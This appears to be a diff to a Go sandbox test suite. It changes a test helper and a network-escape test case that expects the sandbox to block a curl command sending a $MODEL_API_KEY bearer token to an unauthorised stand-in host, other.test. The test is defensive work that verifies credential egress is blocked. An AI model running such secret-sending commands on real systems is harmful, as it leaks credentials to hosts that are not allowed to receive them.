@@ -57,9 +57,7 @@ type netSandbox struct {
 // newNetSandbox prepares a sandbox for e; readOnly and workspace are as in Policy.
 func newNetSandbox(t *testing.T, e *Egress, readOnly []string, workspace string) *netSandbox {
 	t.Helper()
-	exe, err := os.Executable()
-	require.NoError(t, err)
-	sb, err := New(t.Context(), Policy{Egress: e, Executable: exe, ReadOnly: readOnly, Workspace: workspace})
+	sb, err := New(t.Context(), Policy{Egress: e, ReadOnly: readOnly, Workspace: workspace})
 	require.NoError(t, err)
 	t.Cleanup(func() { sb.Close() })
 	return &netSandbox{sb: sb}
@@ -216,7 +214,7 @@ func TestEscapeNetwork(t *testing.T) {
 				assert.Contains(t, r.stdout, " 403", r)
 			}},
 		{"placeholder sent to the wrong host",
-			`curl -sS -w ' %{http_code}' -H "X-Token: $MODEL_API_KEY" https://other.test:` + op + `/`,
+			`curl -sS -w ' %{http_code}' -H "Authorization: Bearer $MODEL_API_KEY" https://other.test:` + op + `/`,
 			func(t *testing.T, r netResult) {
 				assert.Contains(t, r.stdout, "placeholder for MODEL_API_KEY may only be sent to model.test", r)
 				assert.Contains(t, r.stdout, " 403", r)
